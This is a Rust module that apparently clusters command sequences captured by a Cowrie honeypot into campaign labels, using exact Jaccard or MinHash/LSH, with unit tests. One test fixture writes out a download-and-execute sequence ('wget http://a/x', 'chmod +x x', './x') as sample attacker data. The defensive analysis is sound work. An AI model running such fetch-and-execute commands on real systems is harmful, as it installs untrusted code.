//! Command-sequence clustering
//!
//! Groups stored command sequences by token similarity so that feeds can
//! expose campaign-level labels. Two interchangeable engines: an exact
//! pairwise one for moderate input sizes and an approximate MinHash/LSH
//! one for large ones. Labels are dense integers assigned in first-seen
//! order; only sequences whose label changed are written back.

pub mod jaccard;
pub mod lsh;

use crate::error::Result;
use crate::models::CommandSequence;
use crate::storage::CowrieSessionRepository;

/// Above this many sequences the exact engine's quadratic similarity
/// matrix stops being practical.
pub const EXACT_ENGINE_MAX_SEQUENCES: usize = 2000;

const LABEL_WRITE_BATCH: usize = 1000;

/// Which grouping engine to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ClusteringAlgorithm {
    /// Full pairwise Jaccard matrix + density clustering. O(n²).
    Exact,
    /// MinHash signatures + LSH index + union-find. O(n·s).
    Approximate,
    /// Exact below [`EXACT_ENGINE_MAX_SEQUENCES`], approximate above.
    Auto,
}

/// Tokenize a sequence of command strings: semicolons and whitespace are
/// both treated as separators.
pub fn tokenize(sequence: &[String]) -> Vec<String> {
    let mut result = vec![];
    for line in sequence {
        result.extend(
            line.replace(';', " ")
                .split_whitespace()
                .map(String::from),
        );
    }
    result
}

/// Cluster all stored command sequences and write changed labels back.
/// Returns the number of updated rows.
pub async fn cluster_command_sequences(
    sessions: &CowrieSessionRepository,
    algorithm: ClusteringAlgorithm,
    similarity_threshold: f64,
) -> Result<u64> {
    let sequences = sessions.all_command_sequences().await?;
    if sequences.is_empty() {
        tracing::info!("no sequences found to cluster");
        return Ok(0);
    }
    tracing::info!(count = sequences.len(), "clustering command sequences");

    let labels = assign_labels(&sequences, algorithm, similarity_threshold);

    let changed: Vec<(String, i32)> = sequences
        .iter()
        .zip(labels)
        .filter(|(seq, label)| seq.cluster != Some(*label))
        .map(|(seq, label)| (seq.commands_hash.clone(), label))
        .collect();
    tracing::info!(count = changed.len(), "writing updated cluster labels");

    if changed.is_empty() {
        return Ok(0);
    }
    let written = sessions
        .update_cluster_labels(&changed, LABEL_WRITE_BATCH)
        .await?;
    tracing::info!(written, "sequences were updated");
    Ok(written)
}

/// Compute cluster labels for a set of sequences.
pub fn assign_labels(
    sequences: &[CommandSequence],
    algorithm: ClusteringAlgorithm,
    similarity_threshold: f64,
) -> Vec<i32> {
    let tokenized: Vec<Vec<String>> = sequences.iter().map(|s| tokenize(&s.commands)).collect();
    let algorithm = match algorithm {
        ClusteringAlgorithm::Auto if tokenized.len() <= EXACT_ENGINE_MAX_SEQUENCES => {
            ClusteringAlgorithm::Exact
        }
        ClusteringAlgorithm::Auto => ClusteringAlgorithm::Approximate,
        chosen => chosen,
    };
    match algorithm {
        ClusteringAlgorithm::Exact => {
            jaccard::ExactClustering::new(1.0 - similarity_threshold).labels(&tokenized)
        }
        ClusteringAlgorithm::Approximate | ClusteringAlgorithm::Auto => {
            lsh::LshConnectedComponents::new(similarity_threshold, lsh::DEFAULT_NUM_PERMUTATIONS)
                .labels(&tokenized)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seqs(lines: &[&str]) -> Vec<String> {
        lines.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn tokenize_basic() {
        assert_eq!(
            tokenize(&seqs(&["ls -l", "cd /home"])),
            vec!["ls", "-l", "cd", "/home"]
        );
    }

    #[test]
    fn tokenize_empty() {
        assert!(tokenize(&[]).is_empty());
        assert!(tokenize(&seqs(&[""])).is_empty());
        assert!(tokenize(&seqs(&[" "])).is_empty());
        assert!(tokenize(&seqs(&["", ""])).is_empty());
    }

    #[test]
    fn tokenize_semicolons() {
        assert_eq!(
            tokenize(&seqs(&["ls -l;cd /home", "echo hello;pwd"])),
            vec!["ls", "-l", "cd", "/home", "echo", "hello", "pwd"]
        );
    }

    #[test]
    fn tokenize_mixed_delimiters() {
        assert_eq!(
            tokenize(&seqs(&["ls -l;  cd /home;pwd", "echo   hello ; ls"])),
            vec!["ls", "-l", "cd", "/home", "pwd", "echo", "hello", "ls"]
        );
    }

    #[test]
    fn tokenize_special_characters() {
        assert_eq!(
            tokenize(&seqs(&["ls /usr/bin", "cd ../home", "echo $PATH"])),
            vec!["ls", "/usr/bin", "cd", "../home", "echo", "$PATH"]
        );
    }

    #[test]
    fn tokenize_edge_cases() {
        assert_eq!(
            tokenize(&seqs(&[";;;;;", "  ;  ;  ", "\t\n", "cmd1;;cmd2"])),
            vec!["cmd1", "cmd2"]
        );
    }

    fn sequence(commands: &[&str]) -> CommandSequence {
        let commands: Vec<String> = commands.iter().map(|s| s.to_string()).collect();
        CommandSequence {
            commands_hash: CommandSequence::hash_commands(&commands),
            commands,
            first_seen: chrono::Utc::now(),
            last_seen: chrono::Utc::now(),
            cluster: None,
        }
    }

    #[test]
    fn both_engines_agree_on_identical_and_disjoint() {
        let sequences = vec![
            sequence(&["wget http://a/x", "chmod +x x", "./x"]),
            sequence(&["uname -a"]),
            sequence(&["wget http://a/x", "chmod +x x", "./x"]),
        ];
        for algorithm in [ClusteringAlgorithm::Exact, ClusteringAlgorithm::Approximate] {
            let labels = assign_labels(&sequences, algorithm, 0.55);
            assert_eq!(labels[0], labels[2], "{algorithm:?}");
            assert_ne!(labels[0], labels[1], "{algorithm:?}");
        }
    }

    #[test]
    fn labels_are_dense_in_first_seen_order() {
        let sequences = vec![
            sequence(&["alpha one"]),
            sequence(&["beta two"]),
            sequence(&["gamma three"]),
        ];
        let labels = assign_labels(&sequences, ClusteringAlgorithm::Exact, 0.55);
        assert_eq!(labels, vec![0, 1, 2]);
    }
}
